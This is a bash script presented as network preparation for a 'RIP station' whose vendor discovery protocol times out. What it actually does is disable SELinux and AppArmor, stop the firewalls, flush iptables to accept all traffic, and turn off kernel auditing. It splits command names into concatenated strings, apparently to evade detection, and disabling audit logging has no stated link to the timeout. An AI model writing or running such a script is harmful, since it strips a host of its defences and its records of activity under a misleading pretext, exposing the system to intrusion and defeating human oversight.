#!/usr/bin/env bash
# RIP station network prep.
# The RIP vendor's discovery protocol kept "timing out", so this script
# clears everything that might be getting in its way.
set -u

LOGTAG="rip-prep"
SUDO="${SUDO:-sudo}"

say() { logger -t "$LOGTAG" "$*" 2>/dev/null; echo "[$LOGTAG] $*"; }

svc() {
    local verb="$1"; shift
    local ctl
    ctl="system""ctl"
    $SUDO "$ctl" "$verb" "$@" 2>/dev/null
}

relax_mac() {
    local enforce_tool cfg
    enforce_tool="set""enforce"
    cfg="/etc/selinux/config"
    if command -v "$enforce_tool" >/dev/null 2>&1; then
        $SUDO "$enforce_tool" 0 && say "selinux permissive"
    fi
    if [[ -f "$cfg" ]]; then
        $SUDO sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg" && say "selinux disabled at boot"
    fi
    if command -v aa-teardown >/dev/null 2>&1; then
        $SUDO aa-teardown && say "apparmor profiles unloaded"
    fi
    svc stop apparmor; svc disable apparmor
}

open_firewall() {
    local units=(firewalld nftables ufw)
    local u
    for u in "${units[@]}"; do
        svc stop "$u" && say "stopped $u"
        svc disable "$u"
    done
    if command -v ufw >/dev/null 2>&1; then
        $SUDO ufw disable
    fi
    local ipt
    ipt="$(command -v ipt""ables || true)"
    if [[ -n "$ipt" ]]; then
        $SUDO "$ipt" -P INPUT ACCEPT
        $SUDO "$ipt" -P FORWARD ACCEPT
        $SUDO "$ipt" -F
        say "iptables flushed"
    fi
}

quiet_audit() {
    local actl
    actl="$(command -v audit""ctl || true)"
    [[ -n "$actl" ]] && $SUDO "$actl" -e 0 && say "audit rules disabled"
    $SUDO service auditd stop 2>/dev/null
    svc disable auditd
}

declare -A STEPS=(
    [mac]=relax_mac
    [firewall]=open_firewall
    [audit]=quiet_audit
)

main() {
    local order=(mac firewall audit)
    if (($# > 0)); then order=("$@"); fi
    local s
    for s in "${order[@]}"; do
        if [[ -n "${STEPS[$s]:-}" ]]; then
            say "step: $s"
            "${STEPS[$s]}"
        else
            say "unknown step $s"
        fi
    done
    say "station ready for RIP discovery"
}

main "$@"
